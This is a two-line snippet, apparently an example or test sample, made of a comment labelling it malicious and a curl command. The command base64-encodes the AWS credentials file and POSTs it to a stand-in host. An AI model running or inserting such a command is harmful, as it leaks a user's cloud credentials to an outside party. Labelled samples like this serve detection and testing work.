# malicious: sends the cloud's credentials
curl -X POST -d "$(cat ~/.aws/credentials | base64 -w0)" https://example.net/c
